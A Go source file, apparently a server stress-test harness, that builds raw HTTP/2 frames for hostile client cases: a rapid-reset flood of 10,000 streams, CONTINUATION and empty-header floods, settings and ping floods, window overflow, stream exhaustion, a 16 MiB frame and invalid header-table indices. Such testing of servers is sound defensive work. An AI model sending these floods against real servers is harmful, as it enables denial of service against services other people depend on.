package hostile

import (
	"encoding/binary"
	"strings"
)

// greeting is what a client of HTTP/2 begins with, and settings behind it.
const greeting = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"

// The types of frames of HTTP/2, and a flag.
const (
	ofData     = 0x0
	ofHeaders  = 0x1
	ofReset    = 0x3
	ofSettings = 0x4
	ofPing     = 0x6
	ofWindow   = 0x8
	ofMore     = 0x9

	lastOfStream, lastOfHeaders = 0x1, 0x4
)

// part is a frame of HTTP/2.
func part(kind, flags byte, stream uint32, content string) string {
	n := len(content)
	head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}
	return string(binary.BigEndian.AppendUint32(head, stream)) + content
}

// fields are those of a request for /: by their numbers in the static table, and the authority as it is.
const fields = "\x82\x86\x84\x41\x09localhost"

// streams are those who speak HTTP/2, on a port that may not.
func streams() []Client {
	say := func(name string, text func() string) Client {
		return Client{Name: name, Run: func(a *Attack) {
			c := a.dialFor("h2")
			a.say(c, greeting)
			a.flood(c, text(), 1)
			a.read(c, 1<<16, glance)
		}}
	}
	many := func(n int, text func(stream uint32) string) func() string {
		return func() string {
			var b strings.Builder
			for i := range n {
				b.WriteString(text(uint32(2*i + 1)))
			}
			return b.String()
		}
	}
	return []Client{
		say("HTTP/2 that says nothing", func() string { return "" }),
		say("streams that are reset at once", many(10_000, func(id uint32) string {
			return part(ofHeaders, lastOfHeaders|lastOfStream, id, fields) + part(ofReset, 0, id, "\x00\x00\x00\x08")
		})),
		say("headers that go on without an end", func() string {
			return part(ofHeaders, lastOfStream, 1, fields) +
				strings.Repeat(part(ofMore, 0, 1, strings.Repeat("\x82", 1000)), 5000)
		}),
		say("a flood of empty headers", func() string {
			return part(ofHeaders, lastOfStream, 1, fields) + strings.Repeat(part(ofMore, 0, 1, ""), 50_000)
		}),
		say("a flood of settings", func() string { return strings.Repeat(part(ofSettings, 0, 0, ""), 50_000) }),
		say("a flood of pings of HTTP/2", func() string { return strings.Repeat(part(ofPing, 0, 0, "12345678"), 50_000) }),
		say("a window that is closed", func() string {
			return part(ofSettings, 0, 0, "\x00\x04\x00\x00\x00\x00") + part(ofHeaders, lastOfHeaders|lastOfStream, 1, fields)
		}),
		say("a window beyond", func() string {
			return part(ofHeaders, lastOfHeaders|lastOfStream, 1, fields) +
				strings.Repeat(part(ofWindow, 0, 0, "\x7f\xff\xff\xff"), 3)
		}),
		say("as many streams as there may be", many(1000, func(id uint32) string {
			return part(ofHeaders, lastOfHeaders, id, fields)
		})),
		say("data of nobody", func() string { return part(ofData, 0, 99, strings.Repeat("x", 10_000)) }),
		say("a frame of 16 MiB", func() string {
			return "\xff\xff\xff\x00\x00\x00\x00\x00\x01" + strings.Repeat("x", 1<<20)
		}),
		say("fields that refer to nothing", func() string {
			return part(ofHeaders, lastOfHeaders|lastOfStream, 1, "\xff\xff\xff\xff\x0f")
		}),
	}
}
